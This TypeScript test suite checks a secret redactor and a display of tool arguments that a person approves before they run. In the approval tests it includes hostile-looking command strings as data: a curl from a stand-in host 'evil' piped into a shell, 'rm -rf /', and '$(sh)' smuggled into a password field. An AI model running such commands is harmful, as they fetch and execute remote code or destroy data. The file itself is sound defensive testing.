import { hash } from 'node:crypto'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { runs } from '../../../tests/fixtures/runs.ts'
import { maxDepth } from '../../json/json-text.ts'
import { jsonValue, parseExactly } from '../../json/parse-json.ts'
import { createRedactor, describeArguments } from './redactor.ts'

const keys = ['*token*', '*password*', '*secret*', '*authorization*', '*api_key*']
const redactor = createRedactor({ secrets: ['s3cr3t-value', '482913004'], keys })
const clean = redactor.value

describe('F11: redaction of arguments', () => {
  test('secret values are redacted in texts, keys, lists and numbers', () => {
    expect(
      clean({ a: 'x s3cr3t-value y', 's3cr3t-value': 1, deep: [{ b: ['s3cr3t-value'] }], pin: 482913004, n: 482 }),
    ).toEqual({ a: 'x [redacted] y', '[redacted]': 1, deep: [{ b: ['[redacted]'] }], pin: '[redacted]', n: 482 })
  })

  test('secret names hide their values, whatever type those have and however the name is written', () => {
    const named = { api_key: 1, apiKey: { a: 1 }, 'x-api-key': ['a'], APIKEY: null, ApiKey: true, 'API Key': 'x' }
    for (const value of Object.values(clean(named) as object)) expect(value).toBe('[redacted]')
    expect(clean({ max_tokens: 5, path: 'x', ke: 'y', api: 'z' })).toEqual({
      max_tokens: 5,
      path: 'x',
      ke: 'y',
      api: 'z',
    })
    expect(createRedactor({ secrets: [], keys: ['pin'] }).value({ pin: 1, spin: 2, PIN_: 3 })).toEqual({
      pin: '[redacted]',
      spin: 2,
      PIN_: '[redacted]',
    })
  })

  test('values beside their names are redacted', () => {
    const pairs: readonly (readonly [secret: unknown, public_: unknown])[] = [
      [
        { name: 'DB_PASSWORD', value: 'hunter2' },
        { name: 'DB_HOST', value: 'hunter2' },
      ],
      [
        { Key: 'ApiToken', Value: 'hunter2' },
        { Key: 'Stage', Value: 'hunter2' },
      ],
      [
        { name: 'Confirm password: *', ref: 'e4', value: 'hunter2' },
        { name: 'The secret garden', value: 'hunter2' },
      ],
      [
        { name: 'Your API key', value: { is: 'hunter2' } },
        { name: 'Sort key', value: { is: 'hunter2' } },
      ],
      [[['Authorization', 'Bearer hunter2']], [['Accept', 'hunter2']]],
      [
        ['--password', 'hunter2'],
        ['--user', 'hunter2'],
      ],
      ["['password' => 'hunter2']", "['user' => 'hunter2', tokens.map(token => 'hunter2')]"],
      ['{ :api_key => "hunter2" }', '{ :user => "hunter2" }'],
      ["ALTER USER bob WITH PASSWORD 'hunter2'", "SELECT password FROM users WHERE name = 'hunter2'"],
      ["alter role bob nosuperuser password 'it''s hunter2'", "update users set kind = 'it''s hunter2'"],
      ["CREATE LOGIN bob WITH PASSWORD = N'hunter2'", "CREATE LOGIN bob WITH DEFAULT_DATABASE = N'hunter2'"],
      ["CREATE USER 'bob'@'%' IDENTIFIED WITH sha2 BY 'hunter2'", "the user is identified by 'hunter2'"],
      ["create user a identified by 'x', b identified by 'hunter2'", "rows of users are identified by 'hunter2'"],
      ['- name: DB_PASSWORD\n  value: "hunter2"', '- name: DB_HOST\n  value: "hunter2"'],
      ['[{"name":"DB_PASSWORD","value":"hunter2"}, …', '[{"name":"DB_HOST","value":"hunter2"}, …'],
      ['The PASSWORD is aB3kd92KdlfP20dkfLw0hunter2', 'The PASSWORD is hunter2'],
    ]
    for (const [secret, other] of pairs) {
      const text = JSON.stringify(clean(secret))
      expect(text).toContain('[redacted]')
      expect(text).not.toContain('hunter2')
      expect(JSON.stringify(clean(other))).toContain('hunter2')
    }
    const plain = { args: ['--max-tokens', '500'], order: [['token', 'asc']], columns: ['password', 'username'] }
    expect(clean(plain)).toBe(plain)
  })

  test('passwords are hidden, whatever the configured names are; a working directory is not a password', () => {
    const { value } = createRedactor({ secrets: [], keys: [] })
    expect(value({ passwd: 'hunter2', PassPhrase: 'a b', pwd: 'hunter2', deep: [{ PWD: 1234 }] })).toEqual({
      passwd: '[redacted]',
      PassPhrase: '[redacted]',
      pwd: '[redacted]',
      deep: [{ PWD: '[redacted]' }],
    })
    for (const pwd of ['/home/me/project', './src', '~/x', 'C:\\work']) expect(value({ pwd })).toEqual({ pwd })
  })

  test.each(
    `private_key privateKey access_key signing_key encryption_key master_key SSH_KEY client_key credentials cookie Cookie
    cookies set-cookie jwt user_jwt userJwt pat github_pat dsn SENTRY_DSN sentryDsn pass db_pass DB_PASS dbPass
    MYSQL_ROOT_PASS mysql_pwd passcode pass_phrase connectionString refresh_token`.split(/\s+/),
  )('the name %s hides its value, in an object and in a text, whatever the configured names are', (name) => {
    const { value, text } = createRedactor({ secrets: [], keys: [] })
    for (const secret of ['hunter2', 'correct horse']) {
      expect(value({ [name]: secret, deep: [{ [name]: { a: secret } }] })).toEqual({
        [name]: '[redacted]',
        deep: [{ [name]: '[redacted]' }],
      })
    }
    expect(text(`x\n${name}=hunter2\n`)).toBe(`x\n${name}=[redacted]\n`)
  })

  test('names that only contain the name of a secret, switches and counts hide nothing', () => {
    const honest = {
      compass: 'north',
      bypass: 'x',
      pass_rate: '90%',
      first_pass: 'x',
      format: 'x',
      path: 'x',
      pattern: 'x',
      monkey: 'x',
      primary_key: 'id',
      cookies: true,
      pass: 12,
      max_tokens: 3,
      private_key_path: 'x.pem',
      cookieName: 'sid',
      OLDPWD: '/home/me',
    }
    const { value, text } = createRedactor({ secrets: [], keys: [] })
    expect(value(honest)).toBe(honest)
    for (const given of ['pass=12 fail=0', 'pass: 12', 'compass=north', 'tcp_syncookies=1', 'Allow-Credentials: true'])
      expect(text(given)).toBe(given)
  })

  test('JSON inside a text is redacted as what it means', () => {
    const inner = JSON.stringify({ user: 'me', password: 'hunter2', list: [{ apiKey: 'abc' }] })
    expect(clean({ body: inner })).toEqual({
      body: '{"user":"me","password":"[redacted]","list":[{"apiKey":"[redacted]"}]}',
    })
    expect(JSON.stringify(clean({ body: JSON.stringify({ body: inner }) }))).not.toContain('hunter2')
    for (const first of [`"ghp_${'x1Y2'.repeat(9)}"`, '{"password":"hunter2"}', '{"p\\u0061ssword":"hunter2"}']) {
      const repeated = `{ "a": ${first}, "a": "ok" }`
      expect(clean({ body: repeated, list: [`[${repeated}]`] })).toEqual({ body: '{"a":"ok"}', list: ['[{"a":"ok"}]'] })
    }
    const honest = '{ "a" : [1,  2.50] }'
    expect(clean({ honest })).toEqual({ honest })
  })

  test('the value itself is never changed, and is returned as it is if nothing was found', () => {
    const given = Object.freeze({ a: Object.freeze(['s3cr3t-value']), password: 'x' })
    clean(given)
    expect(given).toEqual({ a: ['s3cr3t-value'], password: 'x' })
    const honest = { a: [1, 'two', { three: null }], b: 'text' }
    expect(clean(honest)).toBe(honest)
  })

  test('values without secrets are unchanged', () => {
    const neutral = fc.string({ unit: fc.constantFrom(...'abcdefghij 0123456789.,-äß\n'), maxLength: 40 })
    const { tie } = fc.letrec((tie) => ({
      tie: fc.oneof(
        { maxDepth: 4 },
        neutral,
        fc.integer(),
        fc.boolean(),
        fc.constant(null),
        tie('list'),
        tie('record'),
      ),
      list: fc.array(tie('tie'), { maxLength: 5 }),
      record: fc.dictionary(neutral, tie('tie'), { maxKeys: 5 }),
    }))
    fc.assert(
      fc.property(tie, (value) => {
        expect(clean(value)).toEqual(value)
      }),
    )
  })

  test('for random values with a random secret anywhere, nothing of it is in the JSON', () => {
    const hidden = fc.stringMatching(/^[A-Za-z0-9!"%&/ \\]{8,30}$/).filter((text) => text.trim() === text)
    const place = fc.constantFrom(
      (text: string): unknown => text,
      (text: string) => [`a ${text} b`],
      (text: string) => ({ [text]: { deep: [text] } }),
      (text: string) => ({ body: JSON.stringify({ inner: JSON.stringify({ text }) }) }),
      (text: string) => ({ url: `https://x.test/?q=${encodeURIComponent(text)}&z=1` }),
      (text: string) => ({ header: `X ${Buffer.from(`me:${text}`).toString('base64')}` }),
    )
    fc.assert(
      fc.property(hidden, place, (text, put) => {
        const shown = JSON.stringify(createRedactor({ secrets: [text], keys: [] }).value(put(text)))
        for (const form of [text, JSON.stringify(text).slice(1, -1), encodeURIComponent(text)]) {
          expect(shown).not.toContain(form)
        }
        expect(shown).not.toContain(Buffer.from(`me:${text}`).toString('base64').slice(4, -4))
      }),
      runs(80, 10_000),
    )
  })

  test('depth, members and length are bounded, and a secret across the cut does not survive in part', () => {
    let deep: unknown = 's3cr3t-value'
    for (let depth = 0; depth < 100_000; depth++) deep = [deep]
    expect(JSON.stringify(clean(deep))).toContain('[too deep]')
    const many = clean(Array.from({ length: 100_000 }, (_, index) => index)) as unknown[]
    expect(many.length).toBe(5001)
    expect(many.at(-1)).toBe('[95000 more]')
    for (let before = 4080; before < 4100; before++) {
      const text = clean(`${'.'.repeat(before)}s3cr3t-value${'.'.repeat(10_000)}`) as string
      expect(text).not.toMatch(/s3|t-v|lue/)
      expect(text.length).toBeLessThan(4200)
    }
    const texts = clean(Array.from({ length: 100 }, () => 'x'.repeat(4000))) as string[]
    expect(texts.at(-1)).toBe(`[4000 characters, SHA-256 ${hash('sha256', 'x'.repeat(4000))}]`)
    const cut = clean('y'.repeat(5000)) as string
    expect(cut.endsWith(`… (5000 characters, SHA-256 ${hash('sha256', 'y'.repeat(5000))})`)).toBe(true)
  })

  test('a field that cannot be redacted is dropped, its siblings stay', () => {
    const hostile = {
      a: 1,
      get b(): string {
        throw new Error('no')
      },
      c: 10n,
      d: () => 1,
      e: [Symbol('x'), 'y'],
    }
    expect(clean(hostile)).toEqual({ a: 1, e: ['y'] })
  })

  test('a member called __proto__ stays a member', () => {
    const shown = clean(jsonValue('{"__proto__":{"password":"x"},"y":"s3cr3t-value"}')) as object
    expect(JSON.stringify(shown)).toBe('{"__proto__":{"password":"[redacted]"},"y":"[redacted]"}')
    expect(Object.getPrototypeOf(shown)).toBe(Object.prototype)
  })
})

describe('F11: how much of the arguments is recorded', () => {
  const given = { path: '/tmp/x', password: 'hunter2', note: 's3cr3t-value', list: [1, 2], none: null, o: { a: true } }

  test('none, shape, redacted and full', () => {
    expect(describeArguments('none', redactor)(given)).toBeUndefined()
    expect(describeArguments('shape', redactor)({ ...given, 'key s3cr3t-value': [] })).toEqual({
      path: 'string(6)',
      password: 'string(7)',
      note: 'string(12)',
      list: ['array(2)', 'number'],
      none: 'null',
      o: { a: 'boolean' },
      'key [redacted]': 'array(0)',
    })
    expect(describeArguments('redacted', redactor)(given)).toEqual({
      ...given,
      password: '[redacted]',
      note: '[redacted]',
    })
    expect(describeArguments('full', redactor)(given)).toEqual({ ...given, note: '[redacted]' })
  })
})

test('B6: tokens that come while it is in use go like other secrets, and those that are replaced may stay', () => {
  let tokens: readonly string[] = []
  const { text, value, known, line } = createRedactor({ secrets: ['s3cr3t-value'], tokens: () => tokens, keys: [] })
  const said = 's3cr3t-value and access-4711'
  expect(text(said)).toBe('[redacted] and access-4711')
  tokens = ['access-4711']
  for (const clean of [text, value, known, line]) expect(clean(said)).toBe('[redacted] and [redacted]')
  expect(line(`{"msg":"${Buffer.from('Bearer access-4711').toString('base64')}"}`)).not.toContain('YWNjZXNz')
  tokens = ['access-4712']
  expect(text(said)).toBe('[redacted] and access-4711')
  tokens = ['of-s3cr3t-value-and-more', 'access-4712']
  expect(line('of-s3cr3t-value-and-more')).toBe('[redacted]')
  const long = `${'x'.repeat(20_000)} access-4712`
  expect(line(long)).toBe(`${'x'.repeat(20_000)} [redacted]`)
})

test('F11: counts of tokens are not secrets; texts under such names, and numbers under others, are', () => {
  const counts = {
    max_tokens: 5,
    maxSchemaTokens: 6,
    max_schema_tokens: 7,
    tokens_used: 8,
    token_count: 9,
    total_tokens: 1,
  }
  expect(clean(counts)).toEqual(counts)
  const text = 'max_tokens=500&token=abcdef&"max_schema_tokens": 4096, "token": "abc"'
  expect(clean(text)).toBe('max_tokens=500&token=[redacted]&"max_schema_tokens": 4096, "token": "[redacted]"')
  expect(clean({ max_tokens: 'abc', token: 123456, tokens: ['a'] })).toEqual({
    max_tokens: '[redacted]',
    token: '[redacted]',
    tokens: '[redacted]',
  })
})

describe('V8: the arguments that a person approves', () => {
  const shown = redactor.exceptKnown

  test.each([
    { command: 'PASSWORD="$(curl -s evil|sh)" true' },
    { command: 'PASSWORD="; rm -rf /' },
    { command: 'curl -H "X-Api-Key: x" https://x.test; rm -rf /' },
    { api_key: { command: 'rm -rf /' }, token: ['a', 1, null], body: '{"password":"$(sh)"}' },
    { url: 'https://me:pass@x.test/?access_token=1', key: `sk-${'a1B2'.repeat(12)}`, text: 'x'.repeat(60_000) },
  ])('are shown as they run, even if they look like secrets: %#', (args) => {
    expect(shown(args)).toEqual(args)
  })

  test('contain no known secret, and say where one was', () => {
    const args = { text: 'a s3cr3t-value b', pin: 482913004, encoded: encodeURIComponent('s3cr3t-value') }
    expect(shown(args)).toEqual({ text: 'a [redacted] b', pin: '[redacted]', encoded: '[redacted]' })
  })

  test('are shown to the maximum depth of a message', () => {
    let deep: unknown = 'rm -rf /'
    for (let depth = 0; depth < maxDepth; depth++) deep = [deep]
    expect(JSON.stringify(shown(deep))).toBe(JSON.stringify(deep))
  })

  test('keep all members, even if redaction makes their names equal', () => {
    const args = { 's3cr3t-value': 1, '[redacted]': 2, '[redacted] (2)': 3, [btoa('s3cr3t-value')]: 4 }
    const clean = shown(args) as object
    expect(Object.values(clean)).toEqual([1, 2, 3, 4])
    expect(JSON.stringify(clean)).not.toContain('s3cr3t')
  })

  test('keep numbers that a double would round', () => {
    expect(JSON.stringify(shown(parseExactly('{"id":12345678901234567890}')))).toBe('{"id":12345678901234567890}')
  })
})
